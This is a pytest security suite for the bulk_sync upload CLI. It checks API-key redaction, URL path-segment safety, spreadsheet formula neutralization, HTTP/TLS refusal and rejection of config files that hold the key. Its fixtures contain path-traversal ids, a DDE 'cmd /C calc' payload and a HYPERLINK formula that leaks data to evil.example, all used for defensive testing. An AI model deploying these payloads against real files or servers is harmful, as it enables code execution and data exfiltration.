"""Security: the API key stays secret, customer ids stay inside their URL segment,
report cells cannot run as formulas (and still read back exactly), plain HTTP to a remote
host and unverified TLS are refused, and a config file never holds the key.

Token secrecy is tested by brute force: a representative set of command runs (success,
401, dry run, retry, errors, JSON logs, summary and metrics files, every --help, the
emulator) with a distinctive token, and then EVERY output is scanned for it: stdout,
stderr, log lines, reports, journals, summary JSON, metrics, state and lock files.
"""

from __future__ import annotations

import asyncio
import csv
import hashlib
import importlib.util
import json
import os
import shutil
import signal
import ssl
import subprocess
import sys
import threading
import time
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import openpyxl
import pytest
from aiohttp import web
from click.testing import CliRunner, Result

import bulk_sync.runner
from bulk_sync.cli import cli
from bulk_sync.client import Client
from bulk_sync.config import load_config
from bulk_sync.emulator import EmulatorSettings, EmulatorState, EmulatorThread
from bulk_sync.errors import ApiError, ConfigError, InputError
from bulk_sync.report import journal_path_for
from helpers import report_lines, write_csv

# A distinctive 64-hex-character API key (fixed: xdist workers must collect the same tests).
SECRET = hashlib.sha256(b"bulk-sync: the key that must never be seen").hexdigest()
FAST = "backoff_initial: 0.001\nbackoff_max: 0.01\nmax_attempts: 3\n"
HEADER = ("customer_id", "attribute", "value")

pytestmark = pytest.mark.timeout(60)  # nothing here may hang


# ----------------------------------------------------------------------------- helpers


def leaks(text: str | bytes) -> list[str]:
    """Which forms of SECRET appear in ``text``: the whole key, or a 16-character piece
    of it (a shortened message, a truncated log line)."""
    blob = text.decode("utf-8", "replace") if isinstance(text, bytes) else text
    pieces = {"whole": SECRET, "head": SECRET[:16], "tail": SECRET[-16:], "mid": SECRET[24:40]}
    return [name for name, piece in pieces.items() if piece in blob]


def assert_secret_nowhere(folder: Path, *texts: str) -> int:
    """No output text and no file under ``folder`` holds the key. Returns files scanned."""
    for text in texts:
        assert not leaks(text), f"the API key leaked into an output: {text[:2000]}"
    scanned = 0
    for path in folder.rglob("*"):
        if path.is_file():
            assert not leaks(path.read_bytes()), f"the API key leaked into {path}"
            scanned += 1
    return scanned


def invoke(*args: str, token: str | None = SECRET, **env: str) -> Result:
    environment = {"IC_API_TOKEN": token or "", "BULK_SYNC_DEBUG": "", **env}
    return CliRunner().invoke(cli, list(args), env=environment)


def outputs(result: Result) -> str:
    """Everything a run said, and the text of any exception that escaped click."""
    said = result.stdout + result.stderr
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        said += f"\n{type(result.exception).__name__}: {result.exception}"
    return said


@pytest.fixture
def fast(tmp_path: Path) -> Path:
    config = tmp_path / "fast.yaml"
    config.write_text(FAST)
    return config


@pytest.fixture
def emu(emulator_thread: Callable[..., EmulatorThread]) -> Callable[..., EmulatorThread]:
    def make(**settings: Any) -> EmulatorThread:
        settings.setdefault("token", SECRET)
        return emulator_thread(**settings)

    return make


class ServerThread:
    """An aiohttp server with any handler, in its own thread (optionally over TLS)."""

    def __init__(
        self,
        handler: Callable[[web.BaseRequest], Awaitable[web.StreamResponse]],
        ssl_context: ssl.SSLContext | None = None,
    ) -> None:
        self.handler = handler
        self.ssl_context = ssl_context
        self.port = 0
        self._ready = threading.Event()
        self._loop: asyncio.AbstractEventLoop | None = None
        self._stop: asyncio.Event | None = None
        self._thread = threading.Thread(target=lambda: asyncio.run(self._main()), daemon=True)

    @property
    def url(self) -> str:
        return f"{'https' if self.ssl_context else 'http'}://127.0.0.1:{self.port}"

    async def _main(self) -> None:
        self._loop = asyncio.get_running_loop()
        self._stop = asyncio.Event()
        runner = web.ServerRunner(web.Server(self.handler), handle_signals=False)
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.1", 0, ssl_context=self.ssl_context)
        await site.start()
        self.port = int(runner.addresses[0][1])
        self._ready.set()
        try:
            await self._stop.wait()
        finally:
            await runner.cleanup()

    def __enter__(self) -> ServerThread:
        self._thread.start()
        assert self._ready.wait(10)
        return self

    def __exit__(self, *exc: object) -> None:
        assert self._loop is not None
        assert self._stop is not None
        self._loop.call_soon_threadsafe(self._stop.set)
        self._thread.join(10)


def emulator_handler(
    state: EmulatorState,
) -> Callable[[web.BaseRequest], Awaitable[web.StreamResponse]]:
    """The emulator's request semantics behind any front end (here: a TLS one)."""

    async def handle(request: web.BaseRequest) -> web.StreamResponse:
        body = await request.read()
        reply = state.handle(request.method, request.raw_path, request.headers, body)
        return web.Response(
            status=reply.status,
            body=reply.body,
            headers=reply.headers,
            content_type="application/json",
        )

    return handle


# ----------------------------------------------------------------------------- token secrecy


@pytest.mark.timeout(60)
def test_the_token_appears_in_no_output_of_a_representative_set_of_runs(
    tmp_path: Path,
    fast: Path,
    emu: Callable[..., EmulatorThread],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    monkeypatch.chdir(out)  # default report names land here, and are scanned too
    src = write_csv(
        tmp_path / "in.csv",
        [("C1", "a", "1"), ("C2", "a", "=1+2"), ("C3", "a", ""), ("C4", "a", "x" * 40)],
    )
    said: list[str] = []

    def run(*args: str, token: str | None = SECRET, **env: str) -> Result:
        result = invoke(*args, token=token, **env)
        said.append(outputs(result))
        return result

    ok = emu()
    common = ["--config", str(fast), "--no-progress"]
    # 1. a normal run, with every machine-readable output asked for, in both log formats
    for fmt in ("json", "text"):
        result = run(
            "sync", str(src), "--report", str(out / f"ok-{fmt}.xlsx"), "--base-url", ok.base_url,
            "--log-format", fmt, "--summary-json", str(out / f"summary-{fmt}.json"),
            "--metrics-file", str(out / f"metrics-{fmt}.prom"),
            "--state", str(out / f"state-{fmt}.db"), *common,
        )  # fmt: skip
        assert result.exit_code == 1, result.output  # C3 has an empty value
    # 2. the server rejects the key: 401
    wrong = emu(token="0" * 64)
    result = run(
        "sync", str(src), "--report", str(out / "401.csv"), "--base-url", wrong.base_url,
        "--log-format", "json", *common,
    )  # fmt: skip
    assert result.exit_code == 3, result.output
    # 3. a dry run
    assert run("sync", str(src), "--dry-run", "--report", str(out / "dry.csv")).exit_code == 1
    # 4. failures (503s until given up, 404s, 422s, 429 with Retry-After), then retry
    broken = emu(error_rate=0.5, throttle_rate=0.5, retry_after=0.01, seed=1)
    result = run(
        "sync", str(src), "--report", str(out / "broken.csv"), "--base-url", broken.base_url,
        "--no-progress", "--config", str(fast),
    )  # fmt: skip
    assert result.exit_code == 1
    picky = emu(customers=frozenset({"C1", "C4"}), max_value_length=20)
    result = run(
        "retry", str(out / "broken.csv"), "--report", str(out / "retried.csv"),
        "--base-url", picky.base_url, "--log-format", "json", *common,
    )  # fmt: skip
    assert result.exit_code == 1, result.output
    assert {"404", "422"} <= {r["http_status"] for r in report_lines(out / "retried.csv")}
    # 5. errors of every kind before anything is sent
    for args in (
        ["sync", str(tmp_path / "missing.csv"), "--base-url", ok.base_url],
        ["sync", str(src), "--base-url", "http://example.com"],
        ["sync", str(src), "--base-url", f"https://user:{SECRET}@api.example.com"],
        ["sync", str(src), "--report", str(out / "ok-json.xlsx"), "--base-url", ok.base_url],
        ["sync", str(src), "--resume", str(src), "--base-url", ok.base_url],
        ["retry", str(tmp_path / "nothing.csv"), "--base-url", ok.base_url],
        ["sync", str(src), "--base-url", "https://127.0.0.1:1", "--ca-bundle", str(src)],
    ):
        for fmt in ("text", "json"):
            result = run(*args, "--log-format", fmt)
            assert result.exit_code == 2, (args, result.output)
    # a key that cannot go in a header is refused without being shown
    result = run("sync", str(src), "--base-url", ok.base_url, token=SECRET + " x")
    assert result.exit_code in (2, 3), result.output
    # 6. an unexpected exception that carries the key in its text, mid-upload and at load
    original = Client.set_customer_attributes

    async def exploding(self: Client, customer_id: str, attributes: Any) -> dict[str, str]:
        if customer_id == "C2":
            raise RuntimeError(f"unexpected: Authorization: Bearer {SECRET}")
        return await original(self, customer_id, attributes)

    monkeypatch.setattr(Client, "set_customer_attributes", exploding)
    for fmt in ("text", "json"):
        result = run(
            "sync", str(src), "--report", str(out / f"boom-{fmt}.csv"), "--base-url", ok.base_url,
            "--log-format", fmt, *common,
        )  # fmt: skip
        assert result.exit_code == 1, result.output
        assert "RuntimeError" in result.stderr  # it was logged...
    monkeypatch.undo()

    def exploding_load(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError(f"cannot load with {SECRET}")

    monkeypatch.setattr(bulk_sync.runner, "load", exploding_load)
    for fmt in ("text", "json"):
        result = run("sync", str(src), "--base-url", ok.base_url, "--log-format", fmt)
        assert result.exit_code == 3
        assert "internal error" in result.output
    monkeypatch.undo()
    # 7. --help of every command, and --version, with the key in the environment
    for args in (
        ["--help"], ["--version"], ["sync", "--help"], ["retry", "--help"], ["emulator", "--help"]
    ):  # fmt: skip
        result = run(*args, IC_EMULATOR_TOKEN=SECRET)
        assert result.exit_code == 0, result.output

    scanned = assert_secret_nowhere(out, *said)
    assert scanned >= 15  # reports, summaries, metrics, state and lock files


@pytest.mark.slow
@pytest.mark.timeout(60)
def test_the_token_appears_in_no_output_of_real_processes_or_the_emulator(
    tmp_path: Path, fast: Path
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    env = dict(os.environ, IC_API_TOKEN=SECRET, IC_EMULATOR_TOKEN=SECRET)
    env.pop("BULK_SYNC_DEBUG", None)
    # The emulator, with the key from its environment variable (not on the command line).
    emulator = subprocess.Popen(
        [sys.executable, "-m", "bulk_sync", "emulator", "--port", "0", "--latency", "0.02",
         "--state-file", str(out / "emulator-state.json")],
        env=env, text=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )  # fmt: skip
    try:
        assert emulator.stderr is not None
        first = emulator.stderr.readline()
        assert "listening on" in first
        base_url = first.split("listening on", 1)[1].split()[0]
        src = write_csv(tmp_path / "in.csv", [(f"C{i:03d}", "a", f"v{i}") for i in range(200)])
        # a run killed mid-way leaves a journal...
        job = subprocess.Popen(
            [sys.executable, "-m", "bulk_sync", "sync", str(src), "--report",
             str(out / "killed.csv"), "--base-url", base_url, "--concurrency", "2",
             "--config", str(fast)],
            env=env, text=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        )  # fmt: skip
        deadline = time.monotonic() + 20
        journal = journal_path_for(out / "killed.csv")
        while not (journal.exists() and journal.stat().st_size > 500):
            assert time.monotonic() < deadline
            time.sleep(0.01)
        job.kill()
        texts = list(job.communicate(timeout=20))
        assert journal.exists()
        # ...which --resume finishes, with JSON logs
        job = subprocess.run(
            [sys.executable, "-m", "bulk_sync", "sync", str(src), "--resume",
             str(out / "killed.csv"), "--report", str(out / "resumed.csv"), "--base-url",
             base_url, "--log-format", "json", "--config", str(fast)],
            env=env, text=True, capture_output=True, timeout=40, check=False,
        )  # fmt: skip
        assert job.returncode == 0, job.stderr
        texts += [job.stdout, job.stderr]
        # a wrong key at the emulator: 401 answered, and said nowhere
        job = subprocess.run(
            [sys.executable, "-m", "bulk_sync", "sync", str(src), "--report",
             str(out / "401.csv"), "--base-url", base_url],
            env=dict(env, IC_API_TOKEN="f" * 64), text=True, capture_output=True, timeout=40,
            check=False,
        )  # fmt: skip
        assert job.returncode == 3, job.stderr
        texts += [job.stdout, job.stderr]
    finally:
        emulator.send_signal(signal.SIGTERM)
        rest, err = emulator.communicate(timeout=15)
    texts += [rest, first, err]
    assert "stopped" in err
    assert_secret_nowhere(out, *texts)


def test_log_records_are_redacted_whole_exception_text_and_json_fields_included() -> None:
    import io
    import logging

    from bulk_sync.observability import setup_logging

    for fmt in ("text", "json"):
        stream = io.StringIO()
        handler = setup_logging(fmt, secrets=[SECRET], stream=stream)
        log = logging.getLogger("bulk_sync.test")
        try:
            try:
                raise RuntimeError(f"failed with {SECRET}")
            except RuntimeError:
                log.exception("while sending for %s", SECRET)
            log.warning("field", extra={"detail": SECRET, "nested": {"k": SECRET}})
            log.info("a %s b", f"prefix-{SECRET}-suffix")
        finally:
            logging.getLogger("bulk_sync").removeHandler(handler)
        text = stream.getvalue()
        assert "RuntimeError" in text
        assert "***" in text
        assert not leaks(text), text


@pytest.mark.parametrize(
    ("status", "body"),
    [
        pytest.param(
            401,
            json.dumps({"message": f"token Bearer {SECRET} is revoked", "code": SECRET}),
            id="401",
        ),
        pytest.param(500, f"<html>upstream said: Authorization: Bearer {SECRET}</html>", id="500"),
        pytest.param(503, json.dumps({"error": f"overloaded, key {SECRET}"}), id="503"),
        pytest.param(200, f"not json {SECRET}", id="200-garbage"),
        pytest.param(302, "", id="302"),
    ],
)
def test_a_server_echoing_the_key_back_cannot_make_the_command_show_it(
    tmp_path: Path, fast: Path, status: int, body: str
) -> None:
    seen: list[str] = []

    async def echo(request: web.BaseRequest) -> web.StreamResponse:
        seen.append(request.headers.get("Authorization", ""))
        headers = {"Location": "http://127.0.0.1:9/steal", "Retry-After": "0"}
        return web.Response(status=status, text=body, headers=headers)

    src = write_csv(tmp_path / "in.csv", [("C1", "a", "1"), ("C2", "b", "2")])
    report = tmp_path / "r.csv"
    with ServerThread(echo) as server:
        result = invoke(
            "sync", str(src), "--report", str(report), "--base-url", server.url,
            "--config", str(fast), "--log-format", "json",
        )  # fmt: skip
    assert result.exit_code in (1, 3), result.output
    assert seen  # the key did travel, to this host only
    assert all(h == f"Bearer {SECRET}" for h in seen)
    assert_secret_nowhere(tmp_path, outputs(result))


def test_a_redirect_is_not_followed_so_the_key_never_travels_elsewhere(
    tmp_path: Path, fast: Path
) -> None:
    elsewhere: list[str] = []

    async def thief(request: web.BaseRequest) -> web.StreamResponse:
        elsewhere.append(request.headers.get("Authorization", ""))
        return web.json_response({})

    with ServerThread(thief) as other:

        async def redirect(request: web.BaseRequest) -> web.StreamResponse:
            raise web.HTTPTemporaryRedirect(f"{other.url}{request.raw_path}")

        with ServerThread(redirect) as server:
            for transport in ("aiohttp", "httpx"):
                src = write_csv(tmp_path / f"in-{transport}.csv", [("C1", "a", "1")])
                report = tmp_path / f"r-{transport}.csv"
                result = invoke(
                    "sync", str(src), "--report", str(report), "--base-url", server.url,
                    "--config", str(fast), "--transport", transport,
                )  # fmt: skip
                assert result.exit_code == 1, result.output
                (line,) = report_lines(report)
                assert (line["status"], line["http_status"]) == ("failed", "307")
    assert elsewhere == []


# ----------------------------------------------------------------------------- ids and the path

ODD_IDS = [
    "../../admin",
    "..%2F..%2Fadmin",
    "%2e%2e",
    "%2E%2E%2Fadmin",
    "a/../../b",
    "./a",
    "a/./b",
    "/",
    "//",
    "...",
    ". .",
    "..\\admin",
    "a?b=c&d",
    "a#frag",
    "a;b",
    "a b",
    "100%",
    "%00",
    "C%252e",
    "~user",
    "ação/€",
    "\u2025",
    "\uff0e\uff0e",
    "customers",
    "attributes",
]


@pytest.mark.parametrize("transport", ["aiohttp", "httpx"])
def test_ids_cannot_escape_their_path_segment(
    tmp_path: Path, fast: Path, emu: Callable[..., EmulatorThread], transport: str
) -> None:
    server = emu()
    raw_paths: list[str] = []
    handle = server.state.handle

    def recording(method: str, raw_path: str, headers: Any, body: bytes) -> Any:
        raw_paths.append(raw_path)
        return handle(method, raw_path, headers, body)

    server.state.handle = recording  # type: ignore[method-assign]
    rows = [(cid, "probe", f"v{i}") for i, cid in enumerate(ODD_IDS)]
    rows += [(".", "probe", "dot"), ("..", "probe", "dotdot")]
    src = write_csv(tmp_path / "in.csv", rows)
    report = tmp_path / "r.csv"
    result = invoke(
        "sync", str(src), "--report", str(report), "--base-url", server.base_url,
        "--config", str(fast), "--transport", transport,
    )  # fmt: skip
    assert result.exit_code == 1, result.output  # "." and ".." are invalid
    lines = report_lines(report)
    assert [r["status"] for r in lines] == ["ok"] * len(ODD_IDS) + ["invalid", "invalid"]
    assert "cannot be used in a URL path" in lines[-1]["error"]
    # Exactly one request per id, each to /customers/<one segment>/attributes, and that
    # segment decodes (once) to the id: nothing else on the server was reached.
    assert len(raw_paths) == len(ODD_IDS)
    segments = []
    for raw in raw_paths:
        head, segment, tail = raw[: len("/customers/")], raw[11:-11], raw[-11:]
        assert (head, tail) == ("/customers/", "/attributes"), raw
        for char in "/?#":
            assert char not in segment, raw
        assert segment not in ("", ".", ".."), raw
        segments.append(unquote(segment, errors="strict"))
    assert sorted(segments) == sorted(ODD_IDS)
    assert set(server.state.posts_by_customer) == set(ODD_IDS)
    assert server.state.customers == {cid: {"probe": f"v{i}"} for i, cid in enumerate(ODD_IDS)}
    assert set(server.state.by_status) == {200}


# ----------------------------------------------------------------------------- formula cells

FORMULA_ROWS = [
    ("=cmd|' /C calc'!A0", "@attr", "=1+2"),
    ("=cmd|' /C calc'!A0", "b", "-2+3"),
    ("plain", "x", "+1+2"),
    ("plain", "y", "'=quoted"),
    ("plain", "z", "@SUM(A1:A9)"),
    ("other", "=z", '=HYPERLINK("http://evil.example/?leak="&A1,"click")'),
    ("other", "n", "-5"),
    ("other", "phone", "+351 912 345 678"),
]
# What a spreadsheet must see: one apostrophe in front of whatever it could run.
FORMULA_CELLS = {
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "@attr": "'@attr",
    "=1+2": "'=1+2",
    "-2+3": "'-2+3",
    "+1+2": "'+1+2",
    "'=quoted": "''=quoted",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "=z": "'=z",
    FORMULA_ROWS[5][2]: "'" + FORMULA_ROWS[5][2],
    "-5": "-5",
    "+351 912 345 678": "'+351 912 345 678",
}


def _report_cells(report: Path) -> list[list[Any]]:
    if report.suffix == ".csv":
        with report.open(newline="", encoding="utf-8") as f:
            return list(csv.reader(f))[1:]
    wb = openpyxl.load_workbook(report)
    ws = wb["report"]
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"a formula cell in the report: {cell.value!r}"
    return [[c.value for c in row] for row in ws.iter_rows(min_row=2)]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formula_cells_are_neutralized_and_retry_and_resume_send_the_original(
    tmp_path: Path, fast: Path, emu: Callable[..., EmulatorThread], suffix: str
) -> None:
    src = write_csv(tmp_path / "in.csv", FORMULA_ROWS)
    first = tmp_path / f"first{suffix}"
    # "other" is unknown to the first server: its rows fail (404) and stay to be sent.
    server = emu(customers=frozenset({"=cmd|' /C calc'!A0", "plain"}))
    result = invoke(
        "sync", str(src), "--report", str(first), "--base-url", server.base_url,
        "--config", str(fast),
    )  # fmt: skip
    assert result.exit_code == 1, result.output
    assert server.state.customers == {
        "=cmd|' /C calc'!A0": {"@attr": "=1+2", "b": "-2+3"},
        "plain": {"x": "+1+2", "y": "'=quoted", "z": "@SUM(A1:A9)"},
    }
    cells = _report_cells(first)
    assert len(cells) == len(FORMULA_ROWS)
    for line, (cid, attr, value) in zip(cells, FORMULA_ROWS, strict=True):
        assert line[3] == FORMULA_CELLS.get(cid, cid)
        assert line[4] == FORMULA_CELLS.get(attr, attr)
        assert line[5] == FORMULA_CELLS[value]
    assert [line[6] for line in cells] == ["ok"] * 5 + ["failed"] * 3

    # --resume reads the neutralized cells back: what was ok is skipped, the rest is sent
    # with the original text.
    resumed = tmp_path / f"resumed{suffix}"
    fresh = emu()
    result = invoke(
        "sync", str(src), "--resume", str(first), "--report", str(resumed),
        "--base-url", fresh.base_url, "--config", str(fast),
        "--resume-any-url",  # a fresh server shows what is sent
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert fresh.state.customers == {
        "other": {"=z": FORMULA_ROWS[5][2], "n": "-5", "phone": "+351 912 345 678"}
    }
    assert [line[6] for line in _report_cells(resumed)] == ["skipped"] * 5 + ["ok"] * 3

    # retry re-sends the failed rows with their original values, and says so neutralized.
    retried = tmp_path / f"retried{suffix}"
    again = emu()
    result = invoke(
        "retry", str(first), "--report", str(retried), "--base-url", again.base_url,
        "--config", str(fast),
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert again.state.customers == fresh.state.customers
    cells = _report_cells(retried)
    assert [(line[4], line[5], line[6]) for line in cells] == [
        ("'=z", FORMULA_CELLS[FORMULA_ROWS[5][2]], "ok"),
        ("n", "-5", "ok"),
        ("phone", "'+351 912 345 678", "ok"),
    ]


# ----------------------------------------------------------------------------- plain http


@pytest.fixture
def no_loading(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Make reading any input (or report) fail loudly, to show a check came before it."""
    loaded: list[str] = []

    def load(paths: Any, *args: Any, **kwargs: Any) -> Any:
        loaded.extend(str(p) for p in paths)
        raise InputError("LOADED")

    def retry_tables(report: Path) -> Any:
        loaded.append(str(report))
        raise InputError("LOADED")

    monkeypatch.setattr(bulk_sync.runner, "load", load)
    monkeypatch.setattr("bulk_sync.cli.retry_tables", retry_tables)
    return loaded


@pytest.mark.parametrize(
    "base_url",
    [
        "http://api.invisiblecollector.com",
        "http://10.0.0.5:8080",
        "http://0.0.0.0:8080",
        "http://127.0.0.1.nip.io",
        "http://localhost.example.com",
        "http://[2001:db8::1]:80",
    ],
)
def test_plain_http_to_a_remote_host_is_refused_before_any_file_is_read(
    tmp_path: Path, no_loading: list[str], base_url: str
) -> None:
    src = write_csv(tmp_path / "in.csv", [("C1", "a", "1")])
    old = tmp_path / "old.csv"
    old.write_text(",".join(("source", "sheet", "row", *HEADER, "status")) + "\n")
    for args in (
        ["sync", str(src), "--base-url", base_url],
        ["retry", str(old), "--base-url", base_url],
    ):
        result = invoke(*args)
        assert result.exit_code == 2, result.output
        assert "refusing plain http://" in result.output
        assert "--allow-insecure-http" in result.output or "allow_insecure_http" in result.output
        assert no_loading == []
        # allowed explicitly (flag or config), the run goes on to read the file
        config = tmp_path / "insecure.yaml"
        config.write_text("allow_insecure_http: true\n")
        for extra in (["--allow-insecure-http"], ["--config", str(config)]):
            result = invoke(*args, *extra)
            assert result.exit_code == 2
            assert "LOADED" in result.output
        assert no_loading
        no_loading.clear()
    assert not (tmp_path / "r.csv").exists()


@pytest.mark.parametrize("base_url", ["http://127.0.0.1:1", "http://localhost:1", "http://[::1]:1"])
def test_plain_http_to_loopback_is_allowed(
    tmp_path: Path, no_loading: list[str], base_url: str
) -> None:
    src = write_csv(tmp_path / "in.csv", [("C1", "a", "1")])
    result = invoke("sync", str(src), "--base-url", base_url)
    assert result.exit_code == 2
    assert "LOADED" in result.output


def test_credentials_in_the_base_url_are_refused_without_being_shown(tmp_path: Path) -> None:
    src = write_csv(tmp_path / "in.csv", [("C1", "a", "1")])
    for password in (SECRET, "hunter2-correct-horse"):
        result = invoke("sync", str(src), "--base-url", f"https://bob:{password}@api.example.com")
        assert result.exit_code == 2
        assert "no credentials" in result.output
        assert password not in result.output


# ----------------------------------------------------------------------------- TLS


@pytest.fixture(scope="module")
def certificate(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A self-signed certificate for 127.0.0.1 (IP only: 'localhost' does not match)."""
    folder = tmp_path_factory.mktemp("tls")
    cert, key = folder / "cert.pem", folder / "key.pem"
    if importlib.util.find_spec("cryptography") is None:
        if shutil.which("openssl") is None:
            pytest.skip("neither the cryptography package nor the openssl command is available")
        made = subprocess.run(
            ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2",
             "-keyout", str(key), "-out", str(cert), "-subj", "/CN=bulk-sync test",
             "-addext", "subjectAltName=IP:127.0.0.1"],
            capture_output=True, check=False, timeout=60,
        )  # fmt: skip
        if made.returncode != 0:
            pytest.skip(f"openssl cannot make a certificate: {made.stderr[-300:]!r}")
        return cert, key
    import datetime as dt
    import ipaddress

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    from cryptography.x509.oid import NameOID

    private = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "bulk-sync test")])
    now = dt.datetime.now(dt.UTC)
    built = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(private.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(minutes=5))
        .not_valid_after(now + dt.timedelta(days=2))
        .add_extension(
            x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]),
            critical=False,
        )
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(private, hashes.SHA256())
    )
    cert.write_bytes(built.public_bytes(serialization.Encoding.PEM))
    key.write_bytes(
        private.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return cert, key


@pytest.fixture
def tls_emulator(certificate: tuple[Path, Path]) -> Iterator[tuple[ServerThread, EmulatorState]]:
    cert, key = certificate
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(cert, key)
    state = EmulatorState(EmulatorSettings(token=SECRET))
    with ServerThread(emulator_handler(state), ssl_context=context) as server:
        yield server, state


@pytest.mark.parametrize("transport", ["aiohttp", "httpx"])
async def test_tls_is_verified_by_default_and_a_ca_bundle_makes_it_work(
    tls_emulator: tuple[ServerThread, EmulatorState],
    certificate: tuple[Path, Path],
    transport: str,
) -> None:
    server, state = tls_emulator
    cert, _ = certificate
    async with Client(server.url, SECRET, transport=transport) as client:
        with pytest.raises(ApiError) as caught:
            await client.set_customer_attributes("C1", {"a": "1"})
    text = str(caught.value)
    assert "certificate verify failed" in text
    assert not caught.value.retriable  # a certificate does not fix itself: no retries
    assert not leaks(text)
    assert state.requests_total == 0  # the key never left: TLS failed first
    async with Client(server.url, SECRET, transport=transport, verify=str(cert)) as client:
        assert await client.set_customer_attributes("C1", {"a": "1"}) == {"a": "1"}
    # the bundle vouches for 127.0.0.1 only: the host name is checked too
    localhost = server.url.replace("127.0.0.1", "localhost")
    async with Client(localhost, SECRET, transport=transport, verify=str(cert)) as client:
        with pytest.raises(ApiError, match=r"certificate verify failed|match"):
            await client.set_customer_attributes("C1", {"a": "2"})
    assert state.customers == {"C1": {"a": "1"}}


def test_the_command_refuses_an_unverified_certificate_and_takes_ca_bundle(
    tmp_path: Path,
    fast: Path,
    tls_emulator: tuple[ServerThread, EmulatorState],
    certificate: tuple[Path, Path],
) -> None:
    server, state = tls_emulator
    cert, _ = certificate
    src = write_csv(tmp_path / "in.csv", [("C1", "a", "1"), ("C2", "a", "2")])
    report = tmp_path / "untrusted.csv"
    result = invoke(
        "sync", str(src), "--report", str(report), "--base-url", server.url,
        "--config", str(fast),
    )  # fmt: skip
    # Every request would fail the same way: the run stops (exit 3) like on a 401.
    assert result.exit_code == 3, result.output
    lines = report_lines(report)
    assert {r["status"] for r in lines} == {"not_sent"}
    assert any("certificate verify failed" in r["error"] for r in lines)
    assert any("--ca-bundle" in r["error"] for r in lines)
    assert {r["attempts"] for r in lines} <= {"0", "1"}  # never retried
    assert "TLS certificate" in result.output
    assert state.requests_total == 0

    report = tmp_path / "trusted.csv"
    result = invoke(
        "sync", str(src), "--report", str(report), "--base-url", server.url,
        "--config", str(fast), "--ca-bundle", str(cert),
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert {r["status"] for r in report_lines(report)} == {"ok"}
    assert state.customers == {"C1": {"a": "1"}, "C2": {"a": "2"}}

    not_pem = tmp_path / "bundle.pem"
    not_pem.write_text("not a certificate\n")
    result = invoke(
        "sync", str(src), "--report", str(tmp_path / "x.csv"), "--base-url", server.url,
        "--ca-bundle", str(not_pem),
    )  # fmt: skip
    assert result.exit_code == 2
    assert "CA bundle" in result.output
    assert not (tmp_path / "x.csv").exists()
    assert_secret_nowhere(tmp_path, outputs(result))


# ----------------------------------------------------------------------------- config files


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(f"token: {SECRET}\n", id="token"),
        pytest.param(f"api_key: '{SECRET}'\n", id="api_key"),
        pytest.param(f"API-Key: {SECRET}\n", id="API-Key"),
        pytest.param(f"password: {SECRET}\n", id="password"),
        pytest.param(f"base_url: {SECRET}\n", id="key-like-value"),
        pytest.param(f"metrics_job: 'Bearer {SECRET}'\n", id="bearer-value"),
        pytest.param(f"token_env: {SECRET}\n", id="key-as-token_env"),
        pytest.param(f"columns:\n  customer_id: {SECRET}\n", id="nested-key"),
        pytest.param(f"{SECRET}: true\n", id="the-key-as-a-setting-name"),
        pytest.param(f"concurrency: 4\nextra:\n  - {SECRET}\n", id="key-in-a-list"),
    ],
)
def test_a_config_file_holding_the_key_is_refused_without_echoing_it(
    tmp_path: Path, text: str
) -> None:
    config = tmp_path / "settings.yaml"
    config.write_text(text)
    with pytest.raises(ConfigError) as caught:
        load_config(config)
    message = str(caught.value)
    assert not leaks(message)
    assert "settings.yaml" in message
    assert "IC_API_TOKEN" in message
    src = write_csv(tmp_path / "in.csv", [("C1", "a", "1")])
    for token in (SECRET, "a-different-key"):
        result = invoke("sync", str(src), "--config", str(config), "--dry-run", token=token)
        assert result.exit_code == 2
        assert "IC_API_TOKEN" in result.output
        assert not leaks(outputs(result))


def test_a_broken_config_line_holding_the_key_is_not_quoted(tmp_path: Path) -> None:
    config = tmp_path / "settings.yaml"
    config.write_text(f"concurrency: 4\ntoken: [{SECRET}\n")
    result = invoke("sync", str(write_csv(tmp_path / "in.csv", [])), "--config", str(config))
    assert result.exit_code == 2
    assert "line" in result.output
    assert not leaks(outputs(result))


def test_the_key_is_taken_from_the_variable_a_config_names(tmp_path: Path) -> None:
    config = tmp_path / "settings.yaml"
    config.write_text("token_env: MY_IC_KEY\n")
    src = write_csv(tmp_path / "in.csv", [("C1", "a", "1")])
    result = invoke(
        "sync", str(src), "--config", str(config), "--base-url", "https://127.0.0.1:1",
        token=None, MY_IC_KEY="",
    )  # fmt: skip
    assert result.exit_code == 2
    assert "MY_IC_KEY" in result.output
